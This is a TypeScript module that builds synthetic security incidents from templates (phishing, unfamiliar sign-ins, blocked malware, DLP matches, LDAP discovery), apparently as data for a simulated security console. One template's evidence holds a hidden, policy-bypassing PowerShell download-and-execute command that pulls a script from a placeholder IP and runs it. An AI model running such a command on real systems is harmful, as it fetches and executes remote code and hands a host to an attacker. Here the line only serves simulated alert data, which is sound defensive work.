import type { Prng } from '../world/prng.ts';
import type { Story } from './story.ts';

/** The users, devices and addresses of a template's incident. */
type Participants = {
  readonly user: string;
  readonly other: string;
  readonly device: string;
  readonly ip: string;
  readonly topic: string;
};

type TemplateStory = Pick<Story, 'name' | 'severity' | 'summary' | 'alerts' | 'tags'>;

const USERS = [
  'accounts.payable',
  'front.desk',
  'warehouse.planner',
  'travel.desk',
  'field.engineer',
  'quality.lead',
  'payroll.clerk',
  'press.office',
  'lab.assistant',
  'night.shift',
  'legal.counsel',
  'purchasing.lead',
] as const;
const DEVICES = ['lap', 'desk', 'old', 'mac', 'kiosk', 'srv', 'floor'] as const;
const TOPICS = ['invoice', 'timesheet', 'parcel', 'mailbox', 'contract', 'benefits', 'survey', 'voicemail'] as const;

type Template = (participants: Participants) => TemplateStory;

const TEMPLATES: readonly [Template, ...Template[]] = [
  ({ user, topic, ip }) => ({
    name: `Phishing email delivered to one mailbox: ${topic} notice`,
    severity: 'low',
    summary: `A phishing email about the recipient’s ${topic} was delivered to one mailbox. It was removed by zero-hour auto purge minutes later.`,
    alerts: [
      {
        at: 0,
        title: 'Email messages containing malicious URL removed after delivery',
        by: 'office',
        category: 'InitialAccess',
        severity: 'informational',
        techniques: ['T1566.002'],
        investigation: 'SuccessfullyRemediated',
        text: `An email with a link to a credential phishing page was delivered to ${user} and removed automatically when the URL was classified as malicious.`,
        evidence: [
          { mailbox: user },
          {
            message: `Your ${topic} needs attention`,
            from: `no-reply@${topic}-center.example`,
            to: user,
            delivery: 'Delivered',
            senderIp: ip,
            urls: [`https://${topic}-center.example/verify`],
            verdict: 'malicious',
            remediation: 'remediated',
          },
          { url: `https://${topic}-center.example/verify`, verdict: 'malicious', remediation: 'blocked' },
        ],
      },
    ],
  }),
  ({ user, ip }) => ({
    name: `Unfamiliar sign-in properties involving one user`,
    severity: 'medium',
    summary: `${user} signed in from an IP address and browser that the account had not used before. MFA was satisfied.`,
    alerts: [
      {
        at: 0,
        title: 'Unfamiliar sign-in properties',
        by: 'entra-protection',
        category: 'InitialAccess',
        severity: 'medium',
        techniques: ['T1078.004'],
        text: 'The IP address, browser and network of this sign-in have not been seen for this account in the last 30 days.',
        evidence: [{ user }, { ip, verdict: 'suspicious' }],
      },
    ],
  }),
  ({ user, device, topic }) => ({
    name: `'Wacapew' unwanted software was blocked on one endpoint`,
    severity: 'low',
    summary: `An installer bundled with a free ${topic} app tried to add a browser extension. Microsoft Defender Antivirus blocked it.`,
    alerts: [
      {
        at: 0,
        title: "'Wacapew' unwanted software was prevented",
        by: 'antivirus',
        category: 'UnwantedSoftware',
        severity: 'low',
        techniques: ['T1176'],
        threat: 'Wacapew',
        investigation: 'Benign',
        text: 'Installation of software with a poor reputation was blocked. It displays advertisements and changes browser settings.',
        devices: [device],
        evidence: [
          { user },
          {
            file: `${topic}-setup.exe`,
            path: `C:\\Users\\${user}\\Downloads`,
            on: device,
            verdict: 'suspicious',
            remediation: 'prevented',
          },
        ],
      },
    ],
  }),
  ({ user, device, ip }) => ({
    name: `Suspicious PowerShell command line on ${device}`,
    severity: 'medium',
    summary: `PowerShell on ${device} downloaded and ran a script from the internet. The parent process was a document viewer.`,
    alerts: [
      {
        at: 0,
        lasted: 6,
        title: 'Suspicious PowerShell command line',
        by: 'endpoint',
        category: 'Execution',
        severity: 'medium',
        techniques: ['T1059.001', 'T1105'],
        investigation: 'PendingApproval',
        text: 'PowerShell ran with a hidden window and execution policy bypass, then downloaded and executed a script.',
        devices: [device],
        evidence: [
          { user },
          {
            process: 'powershell.exe',
            path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0',
            command: `powershell.exe -w hidden -ep bypass -c "iwr http://${ip}/a.txt | iex"`,
            on: device,
            by: user,
            verdict: 'suspicious',
          },
          { ip, verdict: 'suspicious', roles: ['commandAndControl'] },
        ],
      },
    ],
  }),
  ({ user, other, ip }) => ({
    name: `Impossible travel activity involving one user`,
    severity: 'medium',
    summary: `${user} signed in from two distant locations within a short time. One of the IP addresses may be a VPN egress.`,
    alerts: [
      {
        at: 0,
        lasted: 35,
        title: 'Impossible travel activity',
        by: 'cloud-apps',
        category: 'InitialAccess',
        severity: 'medium',
        techniques: ['T1078'],
        text: `Two sessions of the account were active at the same time from locations that are too far apart. ${other} uses the same office network.`,
        evidence: [{ user }, { ip }, { ip: '198.51.100.7' }],
      },
    ],
  }),
  ({ user, device }) => ({
    name: `Malware was prevented on ${device}`,
    severity: 'low',
    summary: `A malicious email attachment saved on ${device} was detected and removed before it was opened.`,
    alerts: [
      {
        at: 0,
        title: "'Phonzy' malware was prevented",
        by: 'antivirus',
        category: 'Malware',
        severity: 'informational',
        techniques: ['T1204.002'],
        threat: 'Phonzy',
        investigation: 'SuccessfullyRemediated',
        text: 'A file detected as an information stealer by a machine learning model was removed on write.',
        devices: [device],
        evidence: [
          { user },
          {
            file: 'delivery-note.iso',
            path: `C:\\Users\\${user}\\AppData\\Local\\Temp`,
            on: device,
            verdict: 'malicious',
            remediation: 'prevented',
          },
        ],
      },
    ],
  }),
  ({ user, topic }) => ({
    name: `DLP policy match: ${topic} data shared externally`,
    severity: 'low',
    summary: `A document with personal data was shared with an external recipient. The user overrode the policy tip with a justification.`,
    alerts: [
      {
        at: 0,
        title: 'DLP policy (Personal data) matched for document in OneDrive',
        by: 'data-loss-prevention',
        category: 'Exfiltration',
        severity: 'low',
        techniques: ['T1567.002'],
        text: 'At least ten identity card numbers were detected in a document shared by link.',
        evidence: [
          { user, roles: ['policyViolator'] },
          { file: `${topic}-list.xlsx`, path: 'https://files.example/personal' },
          { cloudApp: 'OneDrive for Business' },
        ],
      },
    ],
  }),
  ({ user, other, device, ip }) => ({
    name: `Multi-stage incident involving initial access and discovery on one endpoint`,
    severity: 'high',
    summary: `${user} clicked a phishing link, which led to a script on ${device} that enumerated members of privileged groups.`,
    tags: ['Needs owner'],
    alerts: [
      {
        at: 0,
        title: 'A potentially malicious URL click was detected',
        by: 'office',
        category: 'InitialAccess',
        severity: 'high',
        techniques: ['T1566.002'],
        text: `${user} clicked a link in an email that was later classified as malicious.`,
        evidence: [
          { user, roles: ['compromised'] },
          { mailbox: user },
          { url: 'https://share-center.example/open', verdict: 'malicious' },
        ],
      },
      {
        at: 9,
        lasted: 4,
        title: 'Suspicious LDAP query',
        by: 'identity',
        category: 'Discovery',
        severity: 'medium',
        techniques: ['T1069.002', 'T1087.002'],
        text: `${device} queried all members of the administrator groups over LDAP, including an account owned by ${other}.`,
        devices: [device],
        evidence: [{ user }, { group: 'Domain Admins' }, { ip, verdict: 'suspicious' }],
      },
    ],
  }),
];

const OUTCOMES = [
  ['truePositive', 'phishing'],
  ['truePositive', 'unwantedSoftware'],
  ['truePositive', 'malware'],
  ['informationalExpectedActivity', 'confirmedActivity'],
  ['informationalExpectedActivity', 'securityTesting'],
  ['informationalExpectedActivity', 'lineOfBusinessApplication'],
  ['falsePositive', 'notMalicious'],
  ['falsePositive', 'notEnoughDataToValidate'],
] as const;

/** Builds a routine incident from a random template. `index` gives consecutive incidents different devices. */
export function storyFromTemplate(stream: Prng, minutesAgo: number, index: number): Story {
  const template = stream.pick(TEMPLATES);
  const range = stream.pick(['203.0.113', '198.51.100']);
  const participants: Participants = {
    user: stream.pick(USERS),
    other: stream.pick(USERS),
    device: `${stream.pick(DEVICES)}-${100 + ((index * 7) % 800)}`,
    ip: `${range}.${stream.between(1, 254)}`,
    topic: stream.pick(TOPICS),
  };
  const isOld = minutesAgo > 3 * 24 * 60;
  const status = stream.chance(isOld ? 0.92 : 0.3) ? 'resolved' : stream.chance(0.45) ? 'inProgress' : 'active';
  const [classification, determination] = stream.pick(OUTCOMES);
  const story = {
    ...template(participants),
    minutesAgo,
    openFor: Math.floor(stream.next() ** 3 * Math.min(minutesAgo, 4 * 24 * 60)),
    status,
  } as const;
  if (status === 'active') return story;
  const assignedTo = stream.pick(['responder', 'analyst', 'Automation', 'second.line'] as const);
  return status === 'resolved' ? { ...story, assignedTo, classification, determination } : { ...story, assignedTo };
}
